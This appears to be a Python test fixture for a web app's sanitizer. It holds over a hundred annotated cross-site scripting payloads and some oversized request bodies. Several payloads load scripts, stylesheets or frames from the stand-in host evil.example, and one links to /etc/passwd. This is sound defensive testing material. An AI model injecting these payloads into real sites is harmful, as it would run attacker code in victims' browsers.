"""Hostile input: XSS payloads, each with what it tries.

``PAYLOADS`` go through every sink of the input suite (comments, previews,
usernames, search, front matter); ``HUGE`` are bodies far over every size
limit, which must be refused with 413/422, never answered with a 500.
"""

from __future__ import annotations

__all__ = ["HUGE", "PAYLOADS"]

PAYLOADS: list[str] = [
    # -- script and style tags ----------------------------------------------------------
    "<script>alert(1)</script>",  # the classic
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",  # upper case, external source
    "<ScRiPt>alert(1)</sCrIpT>",  # mixed case
    "<<script>script>alert(1)<</script>/script>",  # nested, survives one strip pass
    "<script/src=//evil.example/x.js>",  # slash instead of a space
    "<script\n>alert(1)</script\n>",  # newline inside the tag
    "<script>alert(1)",  # never closed
    '<script type="module">import("//evil.example")</script>',  # module script
    "<scr<script>ipt>alert(1)</scr</script>ipt>",  # split keyword
    "<style>body{display:none}</style>",  # page-wide style
    "<style>@import 'https://evil.example/x.css';</style>",  # style import
    '<div style="background:url(javascript:alert(1))">x</div>',  # style attribute URL
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',  # clickjack
    '<link rel="stylesheet" href="https://evil.example/x.css">',  # external stylesheet
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',  # parser differential
    "<template><script>alert(1)</script></template>",  # inert container
    "<textarea></textarea><script>alert(1)</script>",  # closes a textarea early
    "</textarea><script>alert(1)</script>",  # escapes the edit form's textarea
    "</title><script>alert(1)</script>",  # escapes a <title>
    "<xmp><script>alert(1)</script></xmp>",  # raw-text legacy tag
    "<plaintext><script>alert(1)",  # swallows the rest of the page
    # -- event handlers -----------------------------------------------------------------
    "<img src=x onerror=alert(1)>",  # broken image
    "*<img src=x onerror=alert(1)>*",  # inside emphasis
    '<p onclick="alert(1)">x</p>',  # handler on an allowed tag
    "<a href=# onmouseover=alert(1)>x</a>",  # handler on a link
    "<body onload=alert(1)>",  # body handler
    '<details open ontoggle="alert(1)">x</details>',  # fires without a click
    "<input autofocus onfocus=alert(1)>",  # autofocus
    "<select autofocus onfocus=alert(1)>",  # another focusable
    "<video><source onerror=alert(1)></video>",  # media source
    "<audio src=x onerror=alert(1)>",  # audio
    '<marquee onstart="alert(1)">x</marquee>',  # legacy element
    "<div onpointerenter=alert(1)>hover</div>",  # pointer event
    "<p/onclick=alert(1)>x</p>",  # slash as separator
    "<p\tonclick=alert(1)>x</p>",  # tab as separator
    '<p onclick\n="alert(1)">x</p>',  # newline before '='
    "<em ONCLICK=alert(1)>x</em>",  # upper-case handler
    '<strong onclick="alert(1)" class="k">x</strong>',  # handler beside a Pygments class
    "<code onmouseover=alert(1)>x</code>",  # handler on code
    '<a href="https://ok.example" onfocus="alert(1)" autofocus>x</a>',  # handler on a good link
    "<blockquote onclick=alert(1)>q</blockquote>",  # handler on a quote
    "<ol start=1 onclick=alert(1)><li>x</li></ol>",  # handler on an allowed list
    "<x onclick=alert(1)>custom</x>",  # unknown element
    "<my-widget onclick=alert(1)>x</my-widget>",  # custom element
    # -- javascript:, data:, vbscript: URLs --------------------------------------------
    '<a href="javascript:alert(1)">x</a>',  # raw HTML link
    "[click](javascript:alert(1))",  # Markdown link
    "[click](JaVaScRiPt:alert(1))",  # mixed case
    "[click](JAVASCRIPT:alert(1))",  # upper case
    "[click]( javascript:alert(1))",  # leading space
    "[click](&#106;avascript:alert(1))",  # decimal entity
    "[click](&#x6A;avascript&#58;alert(1))",  # hex entities, colon too
    "[click](&#0000106;avascript:alert(1))",  # zero-padded entity
    "[click](javascript&colon;alert(1))",  # named colon entity
    "[click](java&#x09;script:alert(1))",  # tab entity inside the scheme
    "[click](java&#x0A;script:alert(1))",  # newline entity inside the scheme
    "[click](java&#x0D;script:alert(1))",  # carriage return entity
    "[click](java\tscript:alert(1))",  # literal tab
    "[click](&#x01;javascript:alert(1))",  # leading control character
    "[click](\x01javascript:alert(1))",  # literal control character
    "[click](javascript://%0aalert(1))",  # comment then newline
    "[click](javascript:/**/alert(1))",  # comment inside
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",  # data HTML
    "[click](DATA:text/html,<script>alert(1)</script>)",  # upper-case data
    "[click](data:image/svg+xml,<svg onload=alert(1)>)",  # data SVG
    "[click](vbscript:msgbox(1))",  # vbscript
    "[click](VBScript:msgbox(1))",  # mixed-case vbscript
    "[click](livescript:alert(1))",  # ancient alias
    "[click](file:///etc/passwd)",  # local file
    "[click](jar:https://evil.example/x.jar!/)",  # jar
    "[click](ms-its:mhtml:file://C:/x.mht!x.htm)",  # ms-its
    '<a href="  javascript:alert(1)">x</a>',  # spaces before the scheme
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',  # entities in raw HTML
    '<a href="jav&#x09;ascript:alert(1)">x</a>',  # tab entity in raw HTML
    "<javascript:alert(1)>",  # Markdown autolink
    "<JAVASCRIPT:alert(1)>",  # upper-case autolink
    "<data:text/html,<script>alert(1)</script>>",  # data autolink
    "<vbscript:msgbox(1)>",  # vbscript autolink
    "<mailto:x@example.com?body=<script>alert(1)</script>>",  # mailto with a body
    # -- Markdown link and image tricks --------------------------------------------------
    "![tracker](https://evil.example/pixel.png)",  # image, tracking pixel
    "![x](javascript:alert(1))",  # image with javascript
    '![x](https://evil.example/a.png "title\\" onerror=\\"alert(1)")',  # image title break
    "![x](data:image/png;base64,AAAA)",  # data image
    '[![x](https://evil.example/a.png)](https://evil.example "t")',  # image inside a link
    "[click][ref]\n\n[ref]: javascript:alert(1)",  # reference link
    "[click][Ref]\n\n[ref]: JaVaScRiPt:alert(1)",  # reference, case folded
    '[click][r]\n\n[r]: https://ok.example "t\\" onclick=\\"alert(1)"',  # reference title break
    "![img][r]\n\n[r]: https://evil.example/p.png",  # reference image
    "[click]\n\n[click]: javascript:alert(1)",  # shortcut reference
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',  # title breaks out
    "[x](https://ok.example 'a' onmouseover='alert(1)')",  # single-quoted title
    "[x](<javascript:alert(1)>)",  # angle-bracket destination
    '[x](javascript:alert(1) "t")',  # javascript with a title
    '[x](https://ok.example/"onmouseover="alert(1))',  # quote in the URL
    '<https://ok.example/" onmouseover="alert(1)>',  # quote in an autolink
    "<https://ok.example/'onmouseover='alert(1)>",  # single quote in an autolink
    "[a](https://ok.example)<img src=x onerror=alert(1)>",  # good link then image
    "[<img src=x onerror=alert(1)>](https://ok.example)",  # HTML in link text
    '[x](#" onclick="alert(1))',  # fragment with a quote
    "[x](//evil.example)",  # protocol-relative
    "[x](\\\\evil.example\\x)",  # backslashes
    "[x](https://ok.example)[y](javascript:alert(1))",  # a good link then a bad one
    "[x](java\nscript:alert(1))",  # newline in the destination
    # -- SVG and MathML -----------------------------------------------------------------
    "<svg onload=alert(1)>",  # svg handler
    "<svg/onload=alert(1)>",  # no space
    "<svg><script>alert(1)</script></svg>",  # script inside svg
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',  # svg link
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",  # animation event
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',  # svg use
    "<svg><style>@import'//evil.example'</style></svg>",  # style in svg
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',  # MathML link
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",  # mXSS namespace
    '<math href="javascript:alert(1)">x</math>',  # MathML href
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # -- frames, objects, forms, base, meta ---------------------------------------------
    '<iframe src="https://evil.example"></iframe>',  # frame
    '<iframe srcdoc="<script>alert(1)</script>">',  # srcdoc
    '<object data="javascript:alert(1)"></object>',  # object
    '<embed src="javascript:alert(1)">',  # embed
    '<form action="javascript:alert(1)"><button>go</button></form>',  # form
    '<button formaction="javascript:alert(1)">go</button>',  # formaction
    '<input type="image" src="x" onerror="alert(1)">',  # image input
    '<base href="https://evil.example/">',  # base
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',  # refresh
    '<isindex action="javascript:alert(1)" type=image>',  # obsolete
    "<frameset onload=alert(1)>",  # frameset
    '<applet code="x.class"></applet>',  # applet
    # -- HTML comments and unclosed tags -----------------------------------------------
    "<!-- <script>alert(1)</script> -->",  # inside a comment
    "<!--><script>alert(1)</script>-->",  # comment closed at once
    "<!--- --!><img src=x onerror=alert(1)>",  # odd comment end
    "<![CDATA[<script>alert(1)</script>]]>",  # CDATA
    "<?xml version='1.0'?><script>alert(1)</script>",  # processing instruction
    "<!DOCTYPE html><script>alert(1)</script>",  # doctype
    "<img src=x onerror=alert(1)",  # unclosed image
    "<a href='javascript:alert(1)'",  # unclosed link
    '<p title="x>y" onclick="alert(1)">',  # '>' inside an attribute
    "<div><div><div><script>alert(1)",  # deep unclosed nesting
    "</p><script>alert(1)</script><p>",  # closes the paragraph
    "</div></article></li><script>alert(1)</script>",  # closes the page's containers
    # -- attribute-breaking quotes ------------------------------------------------------
    '" onmouseover="alert(1)',  # double quote
    "' onmouseover='alert(1)",  # single quote
    '"><script>alert(1)</script>',  # break out of an attribute
    "'><script>alert(1)</script>",  # the same, single-quoted
    "`onmouseover=alert(1)`",  # backticks (old IE)
    '"/><svg onload=alert(1)>',  # self-closing break
    "&quot; onmouseover=&quot;alert(1)",  # entity quotes
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # escaped already
    "&#60;script&#62;alert(1)&#60;/script&#62;",  # numeric escapes
    "&amp;lt;script&amp;gt;alert(1)",  # double-escaped
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth brackets
    # -- bidi and zero-width characters -------------------------------------------------
    "[invoice](https://ok.example/\u202egnp.exe)",  # RLO in a link
    "<https://ok.example/\u202etxt.exe>",  # RLO in an autolink
    "[x](https://ok.example/\u2066\u2069)",  # isolates in a link
    "[x](java\u200bscript:alert(1))",  # zero-width space in the scheme
    "[x](\ufeffjavascript:alert(1))",  # BOM before the scheme
    "[x](javascript\u00ad:alert(1))",  # soft hyphen before the colon
    "<scr\u200bipt>alert(1)</scr\u200bipt>",  # zero-width inside a tag name
    "user\u202eevil\u202c name",  # RLO in text
    "\u2067\u2066hidden\u2069\u2069",  # nested isolates
    '[x](https://ok.example "\u202etitle")',  # RLO in a title attribute
    # -- fenced code with hostile language names and attributes ------------------------
    "```{.x onclick=alert(1)}\ncode\n```",  # attribute list
    '```{.x #y style="color:red"}\ncode\n```',  # id and style
    "```javascript onclick=alert(1)\ncode\n```",  # handler after the language
    '```"><script>alert(1)</script>\ncode\n```',  # markup as the language
    '```python" onmouseover="alert(1)\ncode\n```',  # quote in the language
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",  # HTML in code
    "~~~ {: .x onclick=alert(1)}\ncode\n~~~",  # tilde fence
    "```javascript:alert(1)\ncode\n```",  # a URL as the language
    "```\n</code></pre><script>alert(1)</script>\n```",  # closes the code block
    "`<script>alert(1)</script>`",  # inline code
    "``<img src=x onerror=alert(1)>``",  # double-backtick code
    "    <script>alert(1)</script>",  # indented code
    # -- mixed Markdown structures ------------------------------------------------------
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",  # in a quote
    "- <iframe src=//evil.example>\n- <svg/onload=alert(1)>",  # in a list
    "1. [x](javascript:alert(1))\n2. <img src=x onerror=alert(1)>",  # ordered list
    "# <script>alert(1)</script>",  # heading
    "Title\n=====\n<img src=x onerror=alert(1)>",  # setext heading
    "| a |\n|---|\n| <script>alert(1)</script> |",  # table syntax
    "**<img src=x onerror=alert(1)>**",  # in strong
    "_[x](javascript:alert(1))_",  # link in emphasis
    "[^1]\n\n[^1]: <script>alert(1)</script>",  # footnote syntax
    "*[HTML]: <script>alert(1)</script>\nHTML",  # abbreviation syntax
    "{@onclick=alert(1)}",  # attribute list syntax
    "Text {: onclick=alert(1) }",  # attr_list on a paragraph
]

HUGE: list[str] = [
    "A" * 100_000,  # plain text, 100 KB
    "<script>alert(1)</script>" * 4_000,  # 100 KB of script tags
    "[x](javascript:alert(1))\n" * 4_000,  # 100 KB of links
]
